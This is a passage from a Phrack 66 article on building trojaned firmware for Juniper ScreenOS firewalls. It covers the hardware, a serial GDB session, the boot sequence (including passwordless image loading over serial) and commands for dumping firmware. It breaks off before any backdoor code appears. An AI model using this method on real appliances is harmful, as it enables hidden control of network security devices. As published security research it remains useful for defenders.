[ News ] [ Paper Feed ] [ Issues ] [ Authors ] [ Archives ] [ Contact ]

..[Phrack Magazine ]..
.:: Backdooring Juniper Firewalls ::.

Issues: [ 1 ] [ 2 ] [ 3 ] [ 4 ] [ 5 ] [ 6 ] [ 7 ] [ 8 ] [ 9 ] [ 10 ] [ 11 ] [ 12 ] [ 13 ] [ 14 ] [ 15 ] [ 16 ] [ 17 ] [ 18 ] [ 19 ] [ 20 ] [ 21 ] [ 22 ] [ 23 ] [ 24 ] [ 25 ] [ 26 ] [ 27 ] [ 28 ] [ 29 ] [ 30 ] [ 31 ] [ 32 ] [ 33 ] [ 34 ] [ 35 ] [ 36 ] [ 37 ] [ 38 ] [ 39 ] [ 40 ] [ 41 ] [ 42 ] [ 43 ] [ 44 ] [ 45 ] [ 46 ] [ 47 ] [ 48 ] [ 49 ] [ 50 ] [ 51 ] [ 52 ] [ 53 ] [ 54 ] [ 55 ] [ 56 ] [ 57 ] [ 58 ] [ 59 ] [ 60 ] [ 61 ] [ 62 ] [ 63 ] [ 64 ] [ 65 ] [ 66 ] [ 67 ] [ 68 ] [ 69 ] [ 70 ]
Current issue : #66 | Release date : 2009-11-06 | Editor : The Circle of Lost Hackers
Phrack Prophile on The PaX TeamTCLH
Phrack World NewsTCLH
Abusing the Objective C runtimenemo
Backdooring Juniper FirewallsGraeme
Exploiting DLmalloc frees in 2009huku
Persistent BIOS infectionaLS and Alfredo
Exploiting UMA : FreeBSD kernel heap exploitsargp and karl
Exploiting TCP Persist Timer Infinitenessithilgore
Malloc Des-Maleficarumblackngel
A Real SMM RootkitCore Collapse
Alphanumeric RISC ARM ShellcodeYYounan and PPhilippaerts
Power cell buffer overflowBSDaemon
Binary Mangling with Radarepancake
Linux Kernel Heap Tampering DetectionLarry H
Developing MacOS X Kernel Rootkitsghalen and wowie
How close are they of hacking your braindahutTitle : Backdooring Juniper Firewalls
Author : Graeme
                ==Phrack Inc.==

        Volume 0x0d, Issue 0x42, Phile #0x05 of 0x11

|=---=[     Netscreen of the Dead:      ]=---=|
|=-=[ Developing a Trojaned Firmware for Juniper ScreenOS Platforms  ]=--=|
|=---=[     By graeme@lolux.net     ]=---=|--[ Index
0x1 - Trailer
0x2 - Opening Scene
0x3 - The Attack
0x4 - Live Evisceration
0x5 - Feeding on the Remains
0x6 - Night of the Living Netscreen
0x7 - Autopsy
0x8 - Netscreen of the Dead
0x9 - Zombie Loader
0xA - 28 Hacks Later
0xB - Closing Scene
0xC - References
0xD - Credits
0xE - Addendum

--[ 0x1 - Trailer

This article describeshow an attacker can obtain, modify and install a
modified version of JuniperScreenOS which can run attacker supplied code
which performs hidden operations or operations contrary to the
configuration of any Juniper platform running ScreenOS.

The attacker could be any one of the following:
- an attacker that has exploited a vulnerability in ScreenOS
- someone who has illicitly obtained the administrator password
- someone with physical access to the device (vendor / 3rd party support)
- an attacker conducting a man-in-the-middle attack on the network
- a malicious administrator

--[ 0x2 - Opening Scene

Netscreens are manufactured by Juniper Inc and are all in one firewall,
VPN, router security appliance. They range in scale from SME to Datacentre
(NS5XP --  NS5000). Most are Common Criteria and FIPS certified and run a
closed source, real time OS called ScreenOS which is supplied by Juniper
as a binary firmware 'blob'.

The hardware used for this research was a Netscreen NS5XT containing an
AMCC PowerPC 405 GP RISC processor and 64MB flash. The firmware used as
the basis for modified firmware images was ScreenOS 5.3.0r10. Interfaces
for administration are serial console, Telnet, SSH, and HTTP/HTTPS. The
firmware can be installed from serial console, via the web interface or
via TFTP.The configuration of the device is stored as a file on the flash and is
independent of the firmware.

--[ 0x3 - The Attack

The goal of the attack is to be able to install attacker modified firmware
which provides hidden root control of the appliance. When attacking
firmware there are two vectors of attack:

1. Live evisceration: debugging with remote GDB debugger over serial line

2. Feeding on the remains: dead listing and static binary analysis using a
disassembler and hex editor.

The next two sections will discuss these two approaches and how successful
they were in this specific instance. At this point it is worth noting some
key features of the PowerPC hardware architecture:
- fixed instruction size of 4 bytes- flat memory model
- 32 general purpose registers (r0-r31)
- no explicit stack but convention of using r01
- link register (lr) for returning to calling function
- program counter (pc) for current instruction
- count register (ctr) for loop counter or return address
- exception register (xer) for exceptions, status and control

Detailed information on the PowerPC architecture is available from the IBM
PPC405 Embedded Processor Core User Manual which can be downloaded from

--[ 0x4 - Live EviscerationFor live debugging a GDB compiled for PowerPC was required. The Embedded
Linux Development Kit (http://www.denx.de/wiki/DULG/ELDK) has GDB compiled
for a number of embedded platforms including the PowerPC 403 and 405processors. This provides remote debugging of systems over a serial

Obviously no source for ScreenOS was available so it was necessary to
create a custom GDB init file for displaying PPC registers and 'stack' to
provide useful information on breaks. GDB reads init files on startup and
init files use the same syntax as GDB command files and are processed by
GDB in the same way. The init file in your home directory (~/.gdbinit) can
set options that affect subsequent processing of command line options and
operands. An example gdb init file is supplied in the addendum. This gdb
init file outputs context similar to the windows SoftICE tool which
reverse engineers should be familiar with. Below is an example of a GDB
session connected to a Netscreen:

--start gdb session

GNU gdb Red Hat Linux (6.7-1rh)Copyright (C) 2007 Free Software Foundation, Inc.
License GPLv3+: GNU GPL version 3 or later
This is free software: you are free to change and redistribute it.
There is NO WARRANTY, to the extent permitted by law.  Type "show copying"
and "show warranty" for details.This GDB was configured as "--host=i686-pc-linux-gnu --target=ppc-linux".
The target architecture is set automatically (currently powerpc:403)

gdb>target remote /dev/ttyU0

0x0032bea4 in ?? ()

 r00:00000001 r01:03790528 r02:01358000 r03:FFFFFFFF     pc:0032BEA4
 r04:0000002E r05:00000000 r06:00000000 r07:00000000
 r08:01631050 r09:01350000 r10:01630000 r11:01630000     lr:0032C5CC
 r12:40000022 r13:00000000 r14:6FFFA27F r15:1B9FC3F7
 r16:00000000 r17:402D04D0 r18:03791470 r19:00000000    ctr:0060A764
 r20:03790B48 r21:013509AC r22:FFFFFFFF r23:0379147E
 r24:00000000 r25:00000000 r26:00000000 r27:00000000     cr:40000028
 r28:03791470 r29:00000000 r30:03790F20 r31:0135098C    xer:20000046

0379058C : 00 00 00 00  00 00 00 00 - 00 00 00 00  00 00 00 00
03790570 : 00 00 00 00  00 00 00 00 - 00 00 00 00  00 00 00 00
0379055A : 00 00 00 00  00 00 00 00 - 00 00 00 00  00 00 00 00
0379053E : A6 40 03 79  06 C0 00 60 - A9 BC 00 00  00 00 00 00 .@y.`..03790528 : 03 79 05 30  00 06 22 F0 - 03 79 03 79  05 40 00 32 y0".yy@2
03790512 : 00 01 03 79  12 58 03 79 - 05 20 0F 20  00 06 37 08 yXy  7
037904F6 : 00 00 00 00  00 05 01 62 - 9F A0 C228  01 4A 05 EA ...(J..
037904E0 : 03 79 04 E8  00 32 BE 60 - 03 79 03 79  14 70 01 4A y.2.`yypJ
037904C4 : 01 6F 0A 24  03 79 04 E0 - 00 B8 00 00  00 6C 03 79 o$y..ly

0x32bea4:       lwz     r0,12(r1)
0x32bea8:       mtlr    r0
0x32beac:       addi    r1,r1,8
0x32beb0:       blr
0x32beb4:       stwu    r1,-40(r1)
0x32beb8:       mflr    r0
0x32bebc:       stw     r29,28(r1)
0x32bec0:       stw     r30,32(r1)
0x32bec4:       stw     r31,36(r1)
0x32bec8:       stw     r0,44(r1)
0x32becc:       mr      r31,r3
0x32bed0:       lis     r9,322
0x32bed4:       lwz     r0,-13800(r9)0x32bed8:       cmpwi   r0,0
0x32bedc:       beq-    0x32bef0
0x32bee0:       lis     r3,196

--end gdb session

The steps for remote debugging on the Netscreen are as follows:
1. Connect to a network interface and the serial console of the Netscreen
from a PC.
2. Over a telnet / SSH session to the Netscreen enable GDB using:
    ns5xt>set gdb enable
3. On the PC start gdbppc and connect to the remote gdb using:
    gdb>target remote /dev/ttyUSB0

During this research remote debugging was useful for obtaining memory
dumps and querying specific memory addresses. However setting breakpoints
or single stepping did not appearto work. Information on how to get these
features working would be most appreciated by the author.

Observing the boot process of the Netscreen over a serial console did
provide useful information regarding the boot up sequence:

--start boot sequence

    NetScreen NS-5XT Boot Loader Version 2.0.0 (Checksum: A1B6FF9B)
    Copyright (c) 1997-2003 NetScreen Technologies, Inc.
    Total physical memory: 64MBTest - Pass
        Initialization - Done
    Hit any key to run loader
    Hit any key to run loader
    Hit any key to run loader
    Hit any key to run loader
    Loading default system image from on-board flash disk...
    Ignore image authentication!
    Start loading...
    Juniper Networks, Inc
    NS-5XT  System Software
    Copyright, 1997-2004
    Version 5.3.0r10.0
    Load Manufacture Information ... Done
    Load NVRAM Information ... (5.3.0)Done
    Install module init vectors
    Verify ACL register default value (at hw reset) ... Done
    Verify ACL register read/write ... Done
    Verify ACL rule read/write ... Done
    Verify ACL rule search ... Done
    MD5("a") = 0cc175b9 c0f1b6a8 31c399e2 69772661
    MD5("abc") = 90015098 3cd24fb0 d6963f7d 28e17f72
    MD5("message digest") = f96b697d 7cb7938d 525a2f31 aaf161d0
    Verify DES register read/write ... Done
    Initial port mode trust-untrust(1)
    Install modules (00c40000,0146d540) ... load dnstable
    : dns table file do not exist.
    Initializing DI 1.1.0-ns
    System config (1129 bytes) loaded
    Load System Configuration
    system init done..
    System change state to Active(1)

--end of boot sequence

Stored boot loader executes and the opportunity is given to load a new
image over a serial connection. The default behaviour is then to
uncompress the stored firmware and run the image.

If a new image file is loaded over a serial console it is uncompressed
and some options are presented. The first prompt allows saving the new
image to flash. Even if the new image is not stored to flash the next
prompt allows running the new image. No password is required to load an
image over the serial line.
The boot loader is part of the firmware and if the new boot loader is
different from the version stored on the flash then the stored boot loader
is overwritten by the new one.

--[ 0x5 - Feeding on the Remains

Static binary analysis was the main method employed in this research.
ScreenOS images can be downloaded direct from the device or obtained from
the Juniper website by Juniper customers.ScreenOS provides the following command to download the firmware over

 ns5xt>save software from flash to tftp destination_file

It is important to note that this command downloads the compressed image
file stored on the flash, not the currently running image from memory
which may or may not be the same as the image file stored on the flash.

Using an undocumented command all the files on the flash can be listed:

 ns5xt-> exec vfs ls flash:/
    $NSBOOT$.BIN              5,177,344
    envar.rec                 82
    golerd.rec                0
    node_secret.ace           0
    certfile.dsc              252
    certfile.dat1,324
    ns_sys_config             1,129
    $lkg$.cfg                 1,259
    syscert.cfg               1,167
  2,501,632 bytes free (7,686,144 total) on disk

$NSBOOT$.BIN is the firmware stored on flash. To download this securely
scp can be enabled on the Netscreen. Note the configuration of the deviceis stored in ns_sys_config.

It is also possible to use GDB to dump the complete contents of the memory
